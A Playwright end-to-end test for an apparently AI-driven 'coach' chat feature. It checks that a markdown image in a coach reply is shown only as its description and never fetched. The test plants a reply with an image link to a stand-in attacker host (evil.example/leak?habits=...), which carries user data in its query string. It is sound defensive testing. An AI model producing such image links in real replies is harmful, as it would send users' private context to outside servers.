import { expect, test } from './fixtures';
import { CoachPage } from './page-models/coach-page';

// Decision 0026: a reply's image could carry the user's context to any server, so none is ever loaded.
test('an image in a coach reply is shown as its description and never fetched', async ({ page }) => {
  const requested: string[] = [];
  page.on('request', (request) => requested.push(request.url()));
  await page.route('https://evil.example/**', (route) => route.fulfill({ status: 200, body: '' }));
  await page.route('**/api/coach/chat', async (route) => {
    if (route.request().headers().accept?.includes('text/event-stream')) return route.abort('failed');
    const response = await route.fetch();
    const answer = await response.json();
    answer.reply =
      'Here is your chart: ![your habits chart](https://evil.example/leak?habits=Read%20daily) and ![a local one](/favicon.svg)';
    return route.fulfill({ response, json: answer });
  });

  const coach = new CoachPage(page);
  await coach.gotoDemo();
  await coach.send('Show me a chart');

  await expect(coach.lastReply()).toContainText('your habits chart');
  await expect(coach.lastReply().locator('img')).toHaveCount(0);
  expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
});
